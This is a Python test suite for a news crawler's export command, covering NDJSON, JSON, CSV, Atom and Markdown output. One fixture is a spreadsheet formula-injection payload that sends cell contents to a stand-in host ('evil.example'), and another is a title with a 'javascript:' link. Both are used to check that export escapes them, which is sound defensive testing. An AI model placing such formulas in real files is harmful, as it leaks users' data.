"""`followup export` on a database made by a real crawl: every format read back and checked."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import feedparser
import pytest
from click.testing import CliRunner, Result

from crawler.cli import cli
from crawler.coverage import Selection, iter_coverage
from crawler.dates import parse_when
from crawler.export import article_record, excerpt, safe_cell
from crawler.model import Article
from crawler.neardup import Original
from crawler.store import Store, open_readonly
from tests.helpers import WAIT_CEILING, reaped, run_followup, wait_until

PAY = "https://news.example.com/2026/11/20/pay.html"  # 10:30 Beijing, 20 Nov
MIIT = "https://news.example.com/2026/11/19/miit.html"  # 18:05 Beijing, 19 Nov
BROKERS = "https://daily.example.org/a/1001.html"  # 11:00 Beijing, 20 Nov; topics interop, brokers
SHOP = "https://list.example.net/news/2001.html"  # 16:00 Beijing, 20 Nov
CLOUD = "https://news.example.com/2026/11/20/cloud.html"  # 09:00 Beijing, 20 Nov; brokers only
SEED = "https://list.example.net/news/1999.html"  # 09:00 Beijing, 18 Nov; the topic seed
REPOST = "https://daily.example.org/a/1002.html"  # a repost of PAY
SEED_REPOST = "https://list.example.net/news/2002.html"  # a repost of SEED
NEWEST_FIRST = [SHOP, BROKERS, PAY, CLOUD, MIIT, SEED]
FIELDS = {
    "url",
    "title",
    "source",
    "author",
    "published_at",
    "fetched_at",
    "baseline",
    "topics",
    "text",
    "also_covered_by",
}
SIGHTING_FIELDS = {"url", "source", "title", "published_at", "seen_at", "distance"}
HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"点击查看")'


def export(db: Path, *args: str) -> Result:
    return CliRunner().invoke(cli, ["export", "--db", str(db), *args])


def ndjson(db: Path, *args: str) -> list[dict[str, Any]]:
    result = export(db, "--format", "ndjson", *args)
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in result.stdout.splitlines()]


def urls(records: list[dict[str, Any]]) -> list[str]:
    return [r["url"] for r in records]


def add_article(db: Path, url: str, title: str) -> int:
    store = Store.open(db)
    with store.transaction():
        article_id = store.save_article(
            Article(url, title, "阿里与腾讯的合作又有新进展。" * 20),
            source="news",
            title_key=title,
            fingerprint=None,
            topics={"interop": ["阿里", "腾讯"]},
        )
    store.close()
    return article_id


def add_sighting(db: Path, original_url: str, url: str, *, seen_at: str) -> None:
    store = Store.open(db)
    original = store.db.execute("SELECT id FROM articles WHERE url = ?", [original_url]).fetchone()
    with store.transaction():
        store.save_duplicate(
            Article(url, "转载", "x"),
            source="other",
            original=Original(original[0], original_url, 1, "simhash"),
            fingerprint=None,
        )
        store.db.execute("UPDATE duplicates SET seen_at = ? WHERE url = ?", [seen_at, url])
    store.close()


# NDJSON and JSON ----------------------------------------------------------------------------


def test_ndjson_is_one_documented_object_a_line_from_the_installed_command(crawled: Path) -> None:
    result = run_followup("export", "--db", str(crawled), "--format", "ndjson")
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    records = [json.loads(line) for line in lines]
    assert urls(records) == NEWEST_FIRST
    assert all(set(r) == FIELDS for r in records)

    pay = records[NEWEST_FIRST.index(PAY)]
    assert pay["title"] == "淘宝天猫全面接入微信支付 阿里腾讯“互联互通”再进一步"
    assert (pay["source"], pay["author"], pay["baseline"]) == ("news", "王立", False)
    assert pay["published_at"] == "2026-11-20T02:30:00Z"
    assert "微信支付" in pay["topics"]["interop"]
    assert pay["text"].startswith("9月12日，记者从淘宝方面获悉")
    (sighting,) = pay["also_covered_by"]
    assert set(sighting) == SIGHTING_FIELDS
    assert (sighting["url"], sighting["source"]) == (REPOST, "daily")

    seed = records[NEWEST_FIRST.index(SEED)]
    assert seed["baseline"] is True and seed["source"] == "seeds"
    assert [s["url"] for s in seed["also_covered_by"]] == [SEED_REPOST]
    brokers = records[NEWEST_FIRST.index(BROKERS)]
    assert brokers["topics"] == {"brokers": ["券商"], "interop": brokers["topics"]["interop"]}


def test_json_is_an_array_of_the_same_records(crawled: Path) -> None:
    result = export(crawled, "--format", "json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout) == ndjson(crawled)


def test_filters_select_by_time_source_topic_and_baseline(crawled: Path) -> None:
    # A date without an offset is a Beijing day; --until takes the whole of it.
    assert urls(ndjson(crawled, "--since", "2026-11-20")) == [SHOP, BROKERS, PAY, CLOUD]
    assert urls(ndjson(crawled, "--until", "2026-11-19")) == [MIIT, SEED]
    assert urls(ndjson(crawled, "--since", "2026-11-19", "--until", "2026-11-19")) == [MIIT]
    assert urls(ndjson(crawled, "--since", "2026-11-20T03:00:00Z")) == [SHOP, BROKERS]
    assert urls(ndjson(crawled, "--since", "2026-11-20 11:00")) == [SHOP, BROKERS]
    assert urls(ndjson(crawled, "--until", "2026-11-20 11:00+08:00")) == [PAY, CLOUD, MIIT, SEED]
    assert urls(ndjson(crawled, "--source", "news")) == [PAY, CLOUD, MIIT]
    assert urls(ndjson(crawled, "--topic", "brokers")) == [BROKERS, CLOUD]
    assert urls(ndjson(crawled, "--no-baseline")) == NEWEST_FIRST[:-1]
    # Relative to now: the fixture's articles are from 2026 and this crawl is recent.
    assert urls(ndjson(crawled, "--since", "100000d")) == NEWEST_FIRST
    assert urls(ndjson(crawled, "--until", "100000d")) == []


def test_bad_filters_exit_2_with_the_fix(crawled: Path) -> None:
    result = export(crawled, "--since", "last tuesday")
    assert result.exit_code == 2 and "'last tuesday' is not a date" in result.output
    result = export(crawled, "--topic", "nope")
    assert result.exit_code == 2
    assert "topic 'nope'; topics there: brokers, interop" in result.output
    result = export(crawled, "--source", "nope")
    assert result.exit_code == 2 and "sources there: daily, listed, news, seeds" in result.output
    result = export(crawled, "--format", "atom")
    assert result.exit_code == 2 and "name it with --topic" in result.output
    result = export(crawled, "--format", "json", "--bom")
    assert result.exit_code == 2 and "CSV only" in result.output
    missing = crawled.parent / "missing.db"
    result = export(missing)
    assert result.exit_code == 2 and "no database at" in result.output
    assert not missing.exists()


def test_parse_when() -> None:
    now = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
    assert parse_when("7d", now=now) == datetime(2026, 11, 15, 12, 0, tzinfo=UTC)
    assert parse_when("1h30m", now=now) == datetime(2026, 11, 22, 10, 30, tzinfo=UTC)
    assert parse_when("2026-11-20", now=now) == datetime(2026, 11, 19, 16, 0, tzinfo=UTC)
    assert parse_when("2026-11-20", now=now, end_of_day=True) == datetime(
        2026, 11, 20, 16, 0, tzinfo=UTC
    )
    assert parse_when("2026-11-20T08:00Z", now=now, end_of_day=True) == datetime(
        2026, 11, 20, 8, 0, tzinfo=UTC
    )
    assert parse_when("2026-11-20 08:00 +00:00", now=now) == datetime(
        2026, 11, 20, 8, 0, tzinfo=UTC
    )
    with pytest.raises(ValueError, match="Beijing time"):
        parse_when("soon", now=now)


# CSV ----------------------------------------------------------------------------------------


def test_csv_reads_back_and_a_hostile_title_stays_text(crawled_copy: Path) -> None:
    store = Store.open(crawled_copy)
    store.db.execute(
        "UPDATE articles SET title = ?, author = '@SUM(1)' WHERE url = ?", [HOSTILE, MIIT]
    )
    store.close()

    result = export(crawled_copy, "--format", "csv")
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes.count(b"\r\n") == 7  # RFC 4180 line ends: header + 6 rows
    rows = {row["url"]: row for row in csv.DictReader(io.StringIO(result.stdout))}
    assert list(rows) == NEWEST_FIRST
    assert rows[MIIT]["title"] == "'" + HOSTILE
    assert rows[MIIT]["author"] == "'@SUM(1)"
    assert rows[PAY]["title"] == "淘宝天猫全面接入微信支付 阿里腾讯“互联互通”再进一步"
    assert rows[PAY]["also_covered_by"] == f"daily {REPOST}"
    assert rows[PAY]["topics"] == "interop"
    assert rows[PAY]["matched"].startswith("interop: 阿里, 淘宝")
    assert rows[BROKERS]["topics"] == "brokers; interop"
    assert rows[SEED]["baseline"] == "yes" and rows[PAY]["baseline"] == "no"
    assert rows[PAY]["excerpt"].startswith("9月12日，记者从淘宝方面获悉")


def test_csv_with_a_bom_for_excel(crawled: Path, tmp_path: Path) -> None:
    target = tmp_path / "coverage.csv"
    result = export(crawled, "--bom", "-o", str(target))  # the format comes from the suffix
    assert result.exit_code == 0, result.output
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfpublished_at,source,title")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r["url"] for r in rows] == NEWEST_FIRST
    assert list(tmp_path.iterdir()) == [target]  # no partial file left behind


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_safe_cell_neutralises_every_formula_start(start: str) -> None:
    assert safe_cell(f"{start}1+2") == f"'{start}1+2"
    assert safe_cell(f"阿里{start}1") == f"阿里{start}1"


def test_excerpt_ends_at_a_sentence_when_one_is_near() -> None:
    assert excerpt("短文。\n第二段。") == "短文。 第二段。"
    text = "第一句话说了很多内容，" * 6 + "到此为止。" + "后面还有很多很多的话" * 10
    assert excerpt(text, limit=80) == text[:71]
    assert excerpt("没有句号的长文字" * 20, limit=20) == "没有句号的长文字没有句号的长文字没有句号…"


# Atom ---------------------------------------------------------------------------------------


def test_atom_is_valid_with_ids_stable_across_exports(crawled_copy: Path) -> None:
    first = export(crawled_copy, "--format", "atom", "--topic", "interop")
    assert first.exit_code == 0, first.output
    feed = feedparser.parse(first.stdout_bytes)
    assert feed.bozo == 0, feed.get("bozo_exception")
    assert feed.version == "atom10"
    assert feed.feed.title == "followup: interop"
    assert [e.link for e in feed.entries] == [u for u in NEWEST_FIRST if u != CLOUD]
    titles = {e.link: e.title for e in feed.entries}
    assert titles[BROKERS] == "券商热议淘宝接入微信支付：增量有多大？"
    entries = {e.link: e for e in feed.entries}
    assert entries[PAY].published_parsed[:5] == (2026, 11, 20, 2, 30)
    assert REPOST in entries[PAY].content[0].value  # the sighting
    assert {t.term for t in entries[SEED].tags} == {"seeds", "baseline"}
    ids = {e.link: e.id for e in feed.entries}
    assert all(i.startswith("urn:uuid:") for i in ids.values())
    assert len(set(ids.values())) == len(ids)

    # New rows shift nothing: the same article keeps its id, the new one gets its own.
    new = "https://news.example.com/2026/11/21/new.html"
    add_article(crawled_copy, new, "阿里腾讯合作新进展")
    add_sighting(crawled_copy, PAY, "https://other.example/pay", seen_at="2030-01-01T00:00:00Z")
    second = feedparser.parse(
        export(crawled_copy, "--format", "atom", "--topic", "interop").stdout_bytes
    )
    assert second.bozo == 0 and second.feed.id == feed.feed.id
    again = {e.link: e for e in second.entries}
    assert {link: again[link].id for link in ids} == ids
    assert again[new].id not in ids.values()
    # The entry with a new sighting is updated, and shows it; the others are not.
    assert again[PAY].updated_parsed[:3] == (2030, 1, 1)
    assert "https://other.example/pay" in again[PAY].content[0].value
    assert again[MIIT].updated_parsed == entries[MIIT].updated_parsed
    # Only the topic's articles: one feed per topic.
    brokers = feedparser.parse(
        export(crawled_copy, "--format", "atom", "--topic", "brokers").stdout_bytes
    )
    assert [e.link for e in brokers.entries] == [BROKERS, CLOUD]
    assert brokers.feed.id != feed.feed.id
    assert brokers.entries[0].id == ids[BROKERS]


# Markdown -----------------------------------------------------------------------------------


def test_markdown_digest_by_topic_and_day_with_sightings(crawled: Path) -> None:
    result = export(crawled, "--format", "md")
    assert result.exit_code == 0, result.output
    digest = result.stdout
    interop = digest[digest.index("\n## interop\n") :]
    brokers = digest[digest.index("\n## brokers\n") : digest.index("\n## interop\n")]
    assert BROKERS in brokers and CLOUD in brokers and PAY not in brokers
    assert CLOUD not in digest[digest.index("\n## interop\n") :]
    days = [line for line in interop.splitlines() if line.startswith("### ")]
    assert days == ["### 2026-11-20", "### 2026-11-19", "### 2026-11-18"]
    positions = [interop.index(f"(<{url}>)") for url in NEWEST_FIRST if url != CLOUD]
    assert positions == sorted(positions)

    pay = interop[interop.index(f"(<{PAY}>)") :].splitlines()
    assert pay[0].endswith("· news · 10:30 · 王立")  # Beijing time
    assert pay[1].startswith("  > 9月12日，记者从淘宝方面获悉")
    assert pay[2] == (
        "  - also covered by daily, 2026-11-20 12:00: "
        f"[淘宝天猫全面接入微信支付 阿里腾讯“互联互通”再进一步（附实测）](<{REPOST}>)"
    )
    seed = interop[interop.index(f"(<{SEED}>)") :].splitlines()
    assert "known coverage (topic seed)" in seed[0]
    assert SEED_REPOST in seed[2]


def test_markdown_escapes_text_from_the_web(crawled_copy: Path) -> None:
    store = Store.open(crawled_copy)
    store.db.execute(
        "UPDATE articles SET title = '[点我](javascript:x) <b>*粗*</b>' WHERE url = ?", [PAY]
    )
    store.close()
    digest = export(crawled_copy, "--format", "md").stdout
    assert rf"**[\[点我\](javascript:x) \<b\>\*粗\*\</b\>](<{PAY}>)**" in digest
    assert "<b>" not in digest and "[点我]" not in digest


# Reading while the daemon writes --------------------------------------------------------------

WRITER = """
import sys, time
from pathlib import Path
from crawler.model import Article
from crawler.neardup import Original
from crawler.store import Store
store, stop = Store.open(sys.argv[1]), Path(sys.argv[2])
previous = None
for n in range(100_000):
    if stop.exists():
        break
    url = f"https://writer.example/{n}"
    # One transaction: article n and the sighting of article n-1 it brings along.
    with store.transaction():
        article_id = store.save_article(
            Article(url, f"写入{n}", "阿里腾讯" * 50), source="writer", title_key=f"写入{n}",
            fingerprint=None, topics={"interop": ["阿里"]},
        )
        if previous is not None:
            store.save_duplicate(
                Article(url + "/repost", f"转载{n}", "x"), source="writer",
                original=Original(previous, "", 0, "title"), fingerprint=None,
            )
    previous = article_id
    if n == 0:
        Path(sys.argv[2] + ".started").touch()
    # A busy daemon, not a bulk load: at 500 rows/s a loaded machine's slow exports let the
    # table grow so much that every read took longer still (30 s instead of 2).
    time.sleep(0.01)
"""


def consistent(records: list[dict[str, Any]]) -> int:
    """The writer's articles in one export; fails unless it is one snapshot of the writes."""
    written = [r for r in records if r["source"] == "writer"]
    sightings = sum(len(r["also_covered_by"]) for r in written)
    assert sightings == max(len(written) - 1, 0), "sightings from after the articles were read"
    assert all(r["topics"] == {"interop": ["阿里"]} for r in written)
    return len(written)


def test_export_while_another_process_writes(crawled_copy: Path, tmp_path: Path) -> None:
    stop = tmp_path / "stop"
    command = [sys.executable, "-c", WRITER, str(crawled_copy), str(stop)]
    with reaped(subprocess.Popen(command, stderr=subprocess.PIPE, text=True)) as writer:
        try:
            wait_until(
                lambda: Path(f"{stop}.started").exists() or writer.poll() is not None,
                "the writer to start",
            )
            assert writer.poll() is None, writer.stderr and writer.stderr.read()
            seen = []
            for _ in range(3):  # the installed command, as a user runs it
                result = run_followup("export", "--db", str(crawled_copy), "--format", "ndjson")
                assert result.returncode == 0 and "locked" not in result.stderr, result.stderr
                seen.append(consistent([json.loads(line) for line in result.stdout.splitlines()]))

            def read_in_process() -> int:
                with open_readonly(crawled_copy) as db:
                    items = list(iter_coverage(db, selection=Selection(source="writer")))
                seen.append(consistent([article_record(i) for i in items]))
                return seen[-1]

            for _ in range(50):  # and many more reads in-process, racing the writer
                read_in_process()
            # However slowly a loaded machine runs the writer, the reads see its new rows.
            wait_until(lambda: read_in_process() > seen[0], "rows written during the exports")
        finally:
            stop.touch()
            _, errors = writer.communicate(timeout=WAIT_CEILING)
    assert writer.returncode == 0, errors
    assert seen[-1] > seen[0] > 0  # the exports really ran while rows were being written
